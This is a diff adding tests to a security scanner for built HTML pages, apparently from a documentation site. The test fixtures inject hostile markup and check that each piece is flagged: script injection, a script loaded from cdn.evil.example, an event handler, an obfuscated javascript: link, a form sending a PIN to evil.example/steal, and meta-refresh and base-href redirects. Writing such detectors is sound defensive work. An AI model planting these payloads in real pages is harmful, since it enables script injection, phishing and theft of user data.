@@ -131,6 +131,52 @@ describe('built-site checks', () => {
   });
 });
 
+describe('the last-line scan of the built HTML', () => {
+  it('refuses markup that runs code or reaches another host, wherever it came from', async () => {
+    const root = fixture('built-base');
+    const index = join(root, 'dist/index.html');
+    const markup = [
+      '<script>alert(1)</script>',
+      '<script src="https://cdn.evil.example/x.js"></script>',
+      '<script type="module" src="/_astro/search.abc.js"></script>',
+      '<p onmouseover="alert(1)" style="color:red">x</p>',
+      '<img src="https://evil.example/pixel.png" alt="">',
+      '<form action="https://evil.example/steal"><input name="pin"></form>',
+      '<a href=" JAVA&#x53;CRIPT:alert(1)">x</a>',
+      '<meta http-equiv="Refresh" content="0;url=https://evil.example/">',
+      '<base href="https://evil.example/">',
+      '<a href="https://www.bankid.no/">a link to follow is fine</a>',
+    ].join('');
+    writeFileSync(index, readFileSync(index, 'utf8').replace('</article>', `${markup}</article>`));
+    mkdirSync(join(root, 'dist/_astro'), { recursive: true });
+    writeFileSync(join(root, 'dist/_astro/search.abc.js'), '');
+    const problems = await checkBuilt(root);
+    expect(problems.map((p) => p.rule).sort()).toEqual([
+      'built/element',
+      'built/element',
+      'built/event-handler',
+      'built/foreign-form',
+      'built/foreign-resource',
+      'built/foreign-resource',
+      'built/script',
+      'built/script',
+      'built/script-url',
+      'built/style',
+    ]);
+    // Not in the page's MDX: reported at the route that renders the page.
+    expect(new Set(problems.map((p) => p.file))).toEqual(new Set(['src/pages/[...path].astro']));
+  });
+
+  it('reports an address the page\'s MDX wrote at its line', async () => {
+    const root = fixture('built-base');
+    const source = join(root, 'src/content/guides/nb/index.mdx');
+    writeFileSync(source, `${readFileSync(source, 'utf8')}\n![Logo](https://evil.example/logo.png)\n`);
+    const index = join(root, 'dist/index.html');
+    writeFileSync(index, readFileSync(index, 'utf8').replace('</article>', '<p><img src="https://evil.example/logo.png" alt="Logo"></p></article>'));
+    expect(located(await checkBuilt(root))).toEqual(['src/content/guides/nb/index.mdx:14:9  built/foreign-resource']);
+  });
+});
+
 describe('parseBuiltPage', () => {
   it('reads ids, named anchors and every URL with its element', () => {
     const page = parseBuiltPage(
